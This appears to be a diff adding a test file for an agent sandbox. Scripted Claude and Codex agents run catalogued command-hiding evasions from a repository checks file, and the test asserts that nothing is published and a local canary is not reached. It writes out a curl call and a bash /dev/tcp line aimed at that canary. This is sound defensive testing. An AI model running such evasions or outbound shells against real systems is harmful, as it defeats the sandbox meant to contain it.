@@ -1,0 +1,119 @@
+/**
+ * The ways to hide a command, run: a real agent that may run everything behind the sandbox tries them one after the other. Nothing is published and nothing
+ * leaves. The check plays one of each class; VIEWPORT_EVASIONS=all plays all eighty.
+ */
+import { mkdir, rm, symlink } from 'node:fs/promises'
+import { createServer, type AddressInfo, type Server } from 'node:net'
+import path from 'node:path'
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
+import { hiddenCommands } from '@viewportai/core/policy/testing/hidden-commands'
+import { realAgent } from '../agent/testing/real-agents.ts'
+import { startScriptedModel, type ScriptedModel } from '../agent/testing/scripted-model.ts'
+import { testRemote, type TestRemote } from '../git/remote.fixture.ts'
+import { detectBubblewrap } from '../walls/detect.ts'
+import { doJob } from './do-job.ts'
+import { agentJob, sampleFiles } from './job.fixture.ts'
+import { testPort } from './port.fixture.ts'
+
+/** One of each class: options, wrappers, quoting, shells, expansions, structure, other languages, refspecs, tools of the network, planted files. */
+const classes = 'E01 E06 E09 E12 E17 E24 E27 E30 E36 E41 E48 E51 E55 E59 E60 E61 E63 E71 E72 E76'.split(' ')
+const all = process.env['VIEWPORT_EVASIONS'] === 'all'
+const chosen = hiddenCommands.filter(([id]) => all || classes.includes(id))
+/** A repository names so many checks at most; what it names runs unasked. */
+const batch = 40
+
+const sandbox = await detectBubblewrap()
+const agents = [
+  { name: 'claude', provider: 'anthropic' },
+  { name: 'codex', provider: 'openai' },
+].map((one) => ({ ...one, ...realAgent(one.name), said: realAgent(one.name).why ?? '' }))
+
+describe.each(agents)('$name, which may run everything $said', { timeout: 600_000 }, ({ name, provider, file }) => {
+  let remote: TestRemote
+  let model: ScriptedModel
+  let canary: Server
+  let reached: string[]
+  beforeEach(async () => {
+    reached = []
+    canary = createServer((socket) => {
+      reached.push(String(socket.remotePort))
+      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n')
+    })
+    await new Promise<void>((ready) => canary.listen(0, '127.0.0.1', ready))
+  })
+  afterEach(async () => {
+    vi.unstubAllEnvs()
+    await new Promise((closed) => canary.close(closed))
+    await model.close()
+    await rm(remote.root, { recursive: true, force: true, maxRetries: 3 })
+  })
+
+  const play = async (commands: readonly string[]): Promise<{ ran: number; code: string | null }> => {
+    const checks = `${JSON.stringify(commands)}\n` // JSON is YAML
+    remote = await testRemote({ ...(await sampleFiles()), '.viewport/checks.yaml': checks })
+    const [home, bin] = [path.join(remote.root, 'home'), path.join(remote.root, 'bin')]
+    await mkdir(home)
+    await mkdir(bin)
+    await symlink(file!, path.join(bin, name))
+    vi.stubEnv('PATH', `${bin}:${process.env['PATH'] ?? ''}`)
+    const turns = [...commands.map((sh) => ({ do: [{ sh }] })), { text: 'All tried.' }]
+    model = await startScriptedModel(remote.root, [{ match: 'try everything', turns }])
+    const before = remote.git('for-each-ref')
+    const port = testPort(
+      agentJob(remote, {
+        agent: name,
+        mode: 'edit',
+        context: [],
+        prompt: 'try everything',
+        limits: { seconds: 500, tokens: null, usdMicros: null },
+      }),
+    )
+    await doJob(port, {
+      home,
+      passEnvironment: [],
+      commands: {},
+      walls: { level: 'sandbox', read: [] },
+      model: {
+        home,
+        logins: [],
+        prices: {},
+        env: {
+          [`${provider.toUpperCase()}_API_KEY`]: 'the-real-key-0123456789-of-the-owner',
+          [`${provider.toUpperCase()}_BASE_URL`]: provider === 'openai' ? `${model.url}/v1` : model.url,
+        },
+      },
+    })
+    expect(remote.git('for-each-ref')).toBe(before)
+    expect(reached).toEqual([])
+    const end = port.reports.at(-1)
+    return {
+      ran: port
+        .logText()
+        .split('\n')
+        .filter((line) => line.startsWith('[permission]') && line.includes(': allow (')).length,
+      code: end?.type === 'failed' ? end.failure.code : null,
+    }
+  }
+
+  it.skipIf(file === null || !('found' in sandbox))(
+    'publishes nothing and reaches no host, whatever it hides a command behind (E01-E80)',
+    async () => {
+      const port = (canary.address() as AddressInfo).port
+      const outside = [
+        `curl -s -m 3 http://127.0.0.1:${port}/`,
+        `bash -c "exec 3<>/dev/tcp/127.0.0.1/${port} && echo x >&3"`,
+      ]
+      const commands = [...chosen.map(([, command]) => command), ...outside]
+      for (let from = 0; from < commands.length; from += batch) {
+        const part = commands.slice(from, from + batch)
+        const { ran, code } = await play(part)
+        // They really ran: what is not tried proves nothing.
+        expect([ran, code]).toEqual([part.length, null])
+        if (from + batch < commands.length) {
+          await model.close()
+          await rm(remote.root, { recursive: true, force: true, maxRetries: 3 })
+        }
+      }
+    },
+  )
+})
